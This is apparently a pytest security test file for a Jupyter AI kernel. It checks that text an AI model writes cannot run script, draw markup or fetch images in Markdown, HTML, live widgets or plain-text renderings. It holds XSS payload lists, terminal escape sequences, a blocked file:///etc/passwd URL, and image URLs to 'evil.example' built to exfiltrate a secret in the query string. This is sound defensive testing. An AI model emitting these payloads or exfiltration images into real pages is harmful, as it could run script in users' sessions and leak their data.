"""The model's text is never trusted by the kernel's renderings (issue 23): Markdown, HTML, plain text and
the live widgets. Each rendering of a turn with attack text in every kind of entry is fed to real
renderers — marked, the Markdown parser JupyterLab and Notebook 7 use (run by node from the labextension's
node_modules), and mistune with raw HTML allowed, as a trusted output is rendered — and the HTML they
produce is checked by a parser of its own: no element but Markdown's, no handler, no script URL.
Ordinary Markdown goes through unchanged."""

from __future__ import annotations

import html
import json
import random
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from faultlog import record

from shiro_kernel.events import Notice, TextDelta, ToolEnd, ToolProgress, ToolStart, TurnEnd, Usage
from shiro_kernel.transcript import ToolCallPart, ToolResultPart
from shiro_kernel.ui import outputs
from shiro_kernel.ui.render import TurnLog, entry_html, to_html, to_markdown, to_text
from shiro_kernel.ui.sanitize import IMAGE_LINK, inert_markdown, md_to_html, plain_url
from shiro_kernel.ui.widgets import TurnView

LABEXTENSION = Path(__file__).resolve().parents[2] / "labextension"

#: what the model might write to get script run or markup drawn; `X` stands for the script
VECTORS = [
    '<img src=x onerror="X">',
    "<script>X</script>",
    '<iframe srcdoc="<script>X</script>"></iframe>',
    '<svg><animate onbegin="X" attributeName="x" dur="1s"/></svg>',
    '<svg onload="X">',
    "<details open ontoggle=X>",
    '<a href="javascript:X">x</a>',
    '<a href="data:text/html,<script>X</script>">x</a>',
    '<button data-commandlinker-command="help:about">x</button>',
    "<!-- x --><img src=x onerror=X>",
    "<?php X ?><img src=x onerror=X>",
    "<![CDATA[x]]><img src=x onerror=X>",
    "</p><img src=x onerror=X>",
    "<javascript:X>",
    "[x](javascript:X)",
    "[x]( JaVaScRiPt:X )",
    "[x](java&#115;cript&#58;X)",
    "[x](javascript&colon;X)",
    "[x](javascript\\:X)",
    "[x](<javascript:X>)",
    "[x](\njavascript:X)",
    "[x](vbscript:X)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:X)",
    "[x][r]\n\n[r]: javascript:X",
    "[x][r]\n\n[r]:\n  javascript:X",
    "`<img src=x onerror=X>`",
    "`` `<img src=x onerror=X>` ``",
    "`a\nb` <img src=x onerror=X> `c`",  # a code span the scan would pair on one line only
    "a `b\nc` <img src=x onerror=X> `d`",
    "| `a | <img src=x onerror=X> `b` |\n|---|---|\n| x | y |",
    "[x](`a)<img/src=x/onerror=X>`",
    "```\n<img src=x onerror=X>",  # a fence left open
    "- a\n  ```\n  ```\n  <img src=x onerror=X>",  # a fence the scan would not see
    "- ```\n  ```\n  <img src=x onerror=X>",
    "> ```\n> <img src=x onerror=X>\n> ```",
    "  ```\nx\n```\n<img src=x onerror=X>\n```",  # a less indented line: a list item may have ended
    "text\n    ```\n    <img src=x onerror=X>",  # a lazy paragraph line, not a fence
    "```\n<b>\n```~\n<img src=x onerror=X>\n```",  # a closing fence only marked accepts
    "````\n```x\n```\n<img src=x onerror=X>\n````",
    "~~~\n<b>\n~~~~\n<img src=x onerror=X>",
    "\t```\n<img src=x onerror=X>",
    "1. a $\n   ```\n   $ <img src=x onerror=X>\n   ```",  # math hiding a fence line from JupyterLab's parser
    "x $\n```\n$ <img src=x onerror=X>\n  ```",
    "$ x\n   ```\n   $ <img src=x onerror=X>\n   ```",  # ran in JupyterLab before the blank lines (Chromium)
    "x \\\\[\n```\n\\\\] <img src=x onerror=X>\n  ```",
    "```js $\n$ <img src=x onerror=X>\n  ```",
    "<IMG SRC=x ONERROR=X>",
    "<img\nsrc=x\nonerror=X>",
    "<a/href=javascript:X>x</a>",
    "\\<img src=x onerror=X>",
    "&lt;img src=x onerror=X&gt; <img src=x onerror=X>",
]

ALLOWED_TAGS = {
    "p", "em", "strong", "code", "pre", "a", "img", "table", "thead", "tbody", "tr", "th", "td", "ul", "ol",
    "li", "blockquote", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "br", "del", "s", "sub", "input",
}  # fmt: skip
SCRIPT_URL = re.compile(r"^(?:javascript|vbscript|livescript|data:(?!image/(?:png|gif|jpeg|webp)[;,]))", re.I)


class Markup(HTMLParser):
    """Everything in an HTML string that could run or is not plain Markdown output."""

    def __init__(self, ours: frozenset[str] = frozenset()) -> None:
        super().__init__(convert_charrefs=True)
        self.ours = ours  # tags (and `style`) the kernel's own HTML wraps the text in
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS | self.ours:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            url = re.sub(r"[\x00-\x20]", "", value or "")
            style = name == "style" and "style" not in self.ours
            if name.startswith("on") or name == "srcdoc" or style or name.startswith("data-commandlinker"):
                self.bad.append(f"<{tag} {name}>")
            elif SCRIPT_URL.match(url):
                self.bad.append(f"<{tag} {name}={value}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    handle_pi = handle_decl = handle_comment = lambda self, data: None  # inert


#: the kernel's HTML around the model's text: a turn's <div>, a row's <details>, a notice's <blockquote>
HTML_WRAPPERS = frozenset({"div", "details", "summary", "blockquote", "style"})


def markup(rendered: str, ours: frozenset[str] = frozenset()) -> list[str]:
    parser = Markup(ours)
    try:
        parser.feed(rendered)
        parser.close()
    except AssertionError:  # html.parser gives up on a malformed declaration: count it as markup
        parser.bad.append("<unparsable>")
    return parser.bad


def marked(sources: list[str]) -> list[str]:
    """``sources`` rendered as JupyterLab renders Markdown before sanitizing it: its own math pre-pass
    (``removeMath``: math is lifted out of the source, then put back) around marked (GFM)."""
    node = shutil.which("node")
    assert node and (LABEXTENSION / "node_modules" / "marked").is_dir(), "node and labextension/node_modules"
    script = (
        "const fs = require('fs'); const { marked } = require('marked');"
        "const latex = fs.readFileSync(require.resolve('@jupyterlab/rendermime/lib/latex.js'), 'utf8');"
        "const { removeMath, replaceMath } = new Function('navigator', "
        "latex.replace(/^export /gm, '') + '\\nreturn { removeMath, replaceMath };')({ appName: '' });"
        "const render = s => { const p = removeMath(s); return replaceMath(marked.parse(p.text, { gfm: true }), p.math); };"
        "let data = ''; process.stdin.on('data', c => data += c).on('end', () =>"
        "process.stdout.write(JSON.stringify(JSON.parse(data).map(render))));"
    )
    done = subprocess.run(
        [node, "-e", script], input=json.dumps(sources), capture_output=True, text=True, cwd=LABEXTENSION, timeout=60
    )
    assert done.returncode == 0, done.stderr
    return list(json.loads(done.stdout))


_RAW: Any = None


def mistune_raw(source: str) -> str:
    """``source`` rendered by mistune with raw HTML passed through (another trusted Markdown renderer)."""
    import mistune

    global _RAW
    if _RAW is None:
        _RAW = mistune.create_markdown(escape=False, plugins=["table", "strikethrough"])
    return str(_RAW(source))


def attack_log(vector: str) -> TurnLog:
    """A turn with ``vector`` in every entry the model or a tool fills: the answer, a tool's name, arguments
    and progress, an error result, a notice, the turn's error."""
    log = TurnLog()
    log.feed(TextDelta(f"Before {vector} after."))
    running = ToolCallPart("c0", f"mcp__x{vector}", json.dumps({"q": vector}))
    log.feed(ToolStart(running))
    log.feed(ToolProgress("c0", f"step {vector}"))
    call = ToolCallPart("c1", "python", json.dumps({"code": f"x = 1  # {vector}"}))
    log.feed(ToolStart(call))
    log.feed(ToolEnd(call, ToolResultPart("c1", "python", f"Error: {vector}", is_error=True), 0.1))
    log.feed(Notice(f"note {vector}"))
    log.feed(TextDelta(vector))
    log.feed(TurnEnd("error", Usage(), error=f"failed {vector}"))
    return log


def test_markdown_of_a_turn_holds_no_markup_for_any_renderer() -> None:
    sources = [to_markdown(attack_log(v)) for v in VECTORS]
    found = {}
    for vector, source, by_marked in zip(VECTORS, sources, marked(sources)):
        bad = markup(by_marked) + markup(mistune_raw(source))
        bad = [b for b in bad if b not in ("<code>", "<sub>")]  # ours: inline code, the footer
        if bad:
            found[vector] = bad
    record(
        "security: model text in the kernel's Markdown (text/markdown), rendered by marked and mistune",
        2 * len(VECTORS),
        len(found),
        f"{len(VECTORS)} vectors, each in the answer, a tool's name, arguments and progress, an error result, a "
        f"notice and the turn's error; {len(found)} drew markup",
    )
    assert not found, found


#: pieces the random texts are built of: block and inline syntax, and markup that must never render
PIECES = ["```", "~~~", "````", "`", "``", "  ", "    ", "\t", "\n", "\n\n", "- ", "1. ", "> ", "| ", " | ",
          "|---|", "<img src=x onerror=X>", "<b>", "</p>", "<!--", "-->", "[x](", "javascript:X", ")", "]: ",
          "[r]", "\\", "text", "$", "*", "_", "<", "&lt;", "&#60;", "<svg onload=X>", "<script>", "x<y", "![i](",
          "<https://a>", "```js"]  # fmt: skip


def test_random_markdown_holds_no_markup() -> None:
    rng = random.Random(23)
    sources = ["".join(rng.choice(PIECES) for _ in range(rng.randint(3, 25))) for _ in range(2000)]
    inert = [inert_markdown(s) for s in sources]
    found = [
        (s, bad)
        for s, i, h in zip(sources, inert, marked(inert))
        if (bad := [b for b in markup(h) + markup(mistune_raw(i)) if b != "<code>"])
    ]
    record(
        "security: random Markdown of fences, code spans, lists, tables, links and tags",
        2000,
        len(found),
        f"2,000 texts (seeded), rendered by marked and mistune; {len(found)} drew markup",
    )
    assert not found, found[:5]
    assert sum(bool(markup(h)) for h in marked(sources)) > 500  # the same texts raw do draw markup


def test_markdown_before_the_fix_would_have_been_caught() -> None:
    """The checker sees markup in the raw vectors (so a pass above means something)."""
    by_marked = marked(VECTORS)
    caught = [v for v, h in zip(VECTORS, by_marked) if markup(h) or markup(mistune_raw(v))]
    assert len(caught) >= 30, [v for v in VECTORS if v not in caught]


def test_html_and_widget_views_of_a_turn_hold_no_markup() -> None:
    found = {}
    for vector in VECTORS:
        log = attack_log(vector)
        bad = markup(to_html(log), HTML_WRAPPERS)
        view = TurnView()  # the live view draws each entry as it streams
        for event in (TextDelta(vector), Notice(vector), TurnEnd("error", Usage(), error=vector)):
            view.feed(event)
        view.show_text(vector)
        view.dropped(vector)
        for widget in (*view.entries.children, view.status):
            bad += markup(widget.value, HTML_WRAPPERS)
        bad += markup("".join(entry_html(e) for e in log.entries), HTML_WRAPPERS)
        if bad:
            found[vector] = bad
    record(
        "security: model text in the kernel's HTML (text/html) and the live widgets",
        2 * len(VECTORS),
        len(found),
        f"{len(VECTORS)} vectors in every entry of a turn and in the widgets' text, status and notices; "
        f"{len(found)} drew markup",
    )
    assert not found, found


def test_plain_text_has_no_terminal_controls() -> None:
    log = TurnLog()
    log.feed(TextDelta("hi \x1b]52;c;cHduZWQ=\x07 \x1b[2J\r\x9b31m there\r\nnext\ttab"))
    log.feed(Notice("n\x1b[31m"))
    log.feed(TurnEnd("error", Usage(), error="e\x1b]8;;javascript:x\x1b\\"))
    text = to_text(log)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text), repr(text)
    assert "hi \ufffd]52;c;cHduZWQ=\ufffd" in text and "next\ttab" in text and "there\nnext" in text


ORDINARY = [
    "The mean of `df.x` is **2.0**, *roughly*.",
    "- one\n- two\n  - nested `a < b`\n\n1. first\n2. second",
    "| region | sales |\n|---|---|\n| north | 3 |",
    "```python\nif a < b and c > d:\n    print('<b>')\n```",
    "1. Install:\n\n   ```bash\n   pip install x<2\n   ```\n\n2. Done.",
    "~~~\n<html>\n~~~",
    "See [the docs](https://example.com/a?b=1), [mail](mailto:a@b.c), [here](#section), [file](data/x.csv).",
    "x < 3 and y <= 4, 2<3, a -> b, <3, ~~gone~~",
    "> a quote with `code`",
    "# Heading\n\nText with a \\* star and $x^2$ math.",
]


@pytest.mark.parametrize("source", ORDINARY)
def test_ordinary_markdown_is_unchanged(source: str) -> None:
    assert inert_markdown(source) == source


def test_code_keeps_its_text_and_tags_in_prose_show_as_text() -> None:
    source = "Use `<br>` or `a<b`; write <b>bold</b> as text.\n\n```\n<div>\n```"
    rendered = marked([inert_markdown(source)])[0]
    text = html.unescape(re.sub(r"<[^>]+>", "", rendered))
    assert "Use <br> or a<b; write <b>bold</b> as text." in text  # shown exactly, as text
    assert [html.unescape(c) for c in re.findall(r"<p>.*?<code>(.*?)</code>.*?<code>(.*?)</code>", rendered)[0]] == [
        "<br>",
        "a<b",
    ]
    assert "<pre><code>&lt;div&gt;" in rendered  # the fence still a code block, its text intact


def test_script_link_targets_become_fragments() -> None:
    assert inert_markdown("[x](javascript:alert(1))") == "[x](#javascript:alert(1))"
    assert inert_markdown("[x]: vbscript:x") == "[x]: #vbscript:x"
    assert inert_markdown("[ok](https://a.b) [ok](/p)") == "[ok](https://a.b) [ok](/p)"


def test_plain_url() -> None:
    for url in ("https://a", "HTTP://a", "mailto:a@b", "/x", "#y", "x.csv", "?q", "data:image/png;base64,x"):
        assert plain_url(url), url
    for url in (
        "javascript:x",
        " JaVaScript:x",
        "java\tscript:x",
        "java&#115;cript:x",
        "javascript&colon;x",
        "javascript\\:x",
        "vbscript:x",
        "data:text/html,x",
        "data:image/svg+xml,x",
        "file:///etc/passwd",
    ):
        assert not plain_url(url), url


def test_html_links_follow_the_same_rule() -> None:
    assert 'href="#harmful-link"' in md_to_html("[x](file:///etc/passwd)")
    assert 'href="https://a.b/c"' in md_to_html("[x](https://a.b/c)")
    assert "&lt;script&gt;" in md_to_html("<script>x</script>")


def test_an_outputs_plain_text_cannot_become_markup() -> None:
    """What approved code displayed keeps its own trust, but its text/plain is text (a CSV cell could say
    anything): as inline code it holds no markup; a figure's base64 cannot leave its attribute."""
    shown = outputs.to_markdown({"data": {"text/plain": "a ` <img src=x onerror=X> `"}})
    assert not markup(marked([shown])[0].replace("<code>", "")) and "onerror" in shown
    tag = outputs.to_html({"data": {"image/png": 'iVBOR" onerror="X', "text/plain": "p"}})
    assert markup(tag) == ["<img style>"]  # the kernel's own max-width: no attribute the data wrote
    assert '" onerror="' not in tag
    # the Markdown an approved display produced is kept as a cell output would show it
    assert outputs.to_markdown({"data": {"text/markdown": "<b>mine</b>"}}) == "<b>mine</b>"


# -- images: nothing of the model's text is fetched without a click (issue 33, point 4) ---------------------

EVIL = "https://evil.example/x.png?q=SECRET"
#: images the model might write; drawn, each would fetch EVIL (or //evil.example) with no click, live and on
#: every reopening: a channel out for whatever the model put in the URL
IMAGES = [
    f"![chart]({EVIL})",
    f"![]({EVIL})",
    f'![chart]({EVIL} "a title")',
    f"![chart](<{EVIL}>)",
    "![chart](//evil.example/x.png?q=SECRET)",
    f"![chart][r]\n\n[r]: {EVIL}",
    f"![chart]\n\n[chart]: {EVIL}",
    f"![chart][]\n\n[chart]: {EVIL}",
    f"![chart](data:image/png,x y)\n\n[chart]: {EVIL}",  # not an inline image: the reference is
    f"[![badge]({EVIL})](https://example.com)",
    f"![a ![b]({EVIL})]({EVIL})",
    f"**![x]({EVIL})** and _![y]({EVIL})_",
    f"- ![x]({EVIL})\n\n> ![y]({EVIL})",
    f"| a | ![x]({EVIL}) |\n|---|---|\n| 1 | 2 |",
    f"`a\nb` ![x]({EVIL}) `c`",  # a code span the per-line scan would pair on the second line only
    f"$x$ ![x]({EVIL}) $y$",
    f"x\\\\![x]({EVIL})",  # an escaped backslash, then an image
    f'<img src="{EVIL}">',
    f'<img src="x.png" srcset="{EVIL} 2x">',
    f'<video poster="{EVIL}"></video>',
]
LOADING = {"src", "srcset", "poster", "background", "lowsrc", "dynsrc", "data", "imagesrcset"}


class Fetches(HTMLParser):
    """The URLs an HTML string makes a browser fetch as it is drawn (an image's, a poster's, a CSS url())."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in LOADING and value and not value.strip().lower().startswith("data:image/"):
                self.urls.append(f"<{tag} {name}={value}>")
            elif name == "style" and value and "url(" in value.lower():
                self.urls.append(f"<{tag} style={value}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def fetches(rendered: str) -> list[str]:
    parser = Fetches()
    parser.feed(rendered)
    parser.close()
    return parser.urls


def image_log(source: str) -> TurnLog:
    """A turn with ``source`` as its answer, in a tool's arguments, a notice and the turn's error."""
    log = TurnLog()
    call = ToolCallPart("c1", "python", json.dumps({"code": f"x = 1  # {source}"}))
    log.feed(ToolStart(call))
    log.feed(ToolEnd(call, ToolResultPart("c1", "python", f"Error: {source}", is_error=True), 0.1))
    log.feed(Notice(f"note {source}"))
    log.feed(TextDelta(source))
    log.feed(TurnEnd("error", Usage(), error=f"failed {source}"))
    return log


def test_no_image_of_the_model_text_is_fetched_in_any_kernel_rendering() -> None:
    logs = [image_log(v) for v in IMAGES]
    markdown = [to_markdown(log) for log in logs]
    found: dict[str, list[str]] = {}
    for vector, log, source, by_marked in zip(IMAGES, logs, markdown, marked(markdown)):
        urls = fetches(by_marked) + fetches(mistune_raw(source)) + fetches(to_html(log))
        view = TurnView()  # the live view, as the answer streams in
        for event in (TextDelta(vector), Notice(vector), TurnEnd("error", Usage(), error=vector)):
            view.feed(event)
        urls += [u for w in (*view.entries.children, view.status) for u in fetches(w.value)]
        if urls:
            found[vector] = urls
    record(
        "security: images in the model's text fetched by the kernel's Markdown, HTML and live widgets",
        4 * len(IMAGES),
        len(found),
        f"{len(IMAGES)} images (Markdown inline, reference, nested, in links, lists, tables, next to math, raw "
        f"<img>, srcset, a video poster) in the answer, a tool's arguments, an error, a notice; rendered by "
        f"marked and mistune (text/markdown), as text/html and in the widgets; {len(found)} fetched",
    )
    assert not found, found


def test_the_checker_sees_the_images_it_guards_against() -> None:
    """Rendered raw, the same texts do fetch (so a pass above means something)."""
    raw = marked(IMAGES)
    assert all(fetches(h) or fetches(mistune_raw(v)) for v, h in zip(IMAGES, raw)), [
        v for v, h in zip(IMAGES, raw) if not (fetches(h) or fetches(mistune_raw(v)))
    ]


def test_an_image_becomes_a_link_to_it() -> None:
    assert inert_markdown(f"See ![chart]({EVIL}).") == f"See [{IMAGE_LINK}chart]({EVIL})."
    assert inert_markdown("![a][r]\n\n[r]: x.png") == f"[{IMAGE_LINK}a][r]\n\n[r]: x.png"
    assert inert_markdown("Wow\\![not an image](x)") == "Wow\\![not an image](x)"  # escaped: text as it was
    assert inert_markdown("```\n![in code](x.png)\n```") == "```\n![in code](x.png)\n```"
    rendered = marked([inert_markdown(f"See ![chart]({EVIL}).")])[0]
    assert rendered == f'<p>See <a href="{html.escape(EVIL)}">image: chart</a>.</p>\n'
    assert md_to_html(f'![chart]({EVIL} "t")') == f'<p><a href="{html.escape(EVIL)}" title="t">image: chart</a></p>\n'
    # inline image data loads nothing: the HTML still draws it
    assert (
        md_to_html("![i](data:image/png;base64,iVBOR)") == '<p><img src="data:image/png;base64,iVBOR" alt="i" /></p>\n'
    )


def test_images_the_approved_code_displayed_still_draw() -> None:
    """What the user's approved call displayed keeps a cell output's trust: its Markdown's images draw."""
    shown = {"data": {"text/markdown": "![plot](https://example.com/p.png)", "text/plain": "<Markdown>"}}
    assert '<img src="https://example.com/p.png" alt="plot" />' in outputs.to_html(shown)
    assert outputs.to_markdown(shown) == "![plot](https://example.com/p.png)"
    figure = {"data": {"image/png": "iVBOR", "text/plain": "<Figure>"}}
    assert '<img class="shiro-output" src="data:image/png;base64,iVBOR"' in outputs.to_html(figure)
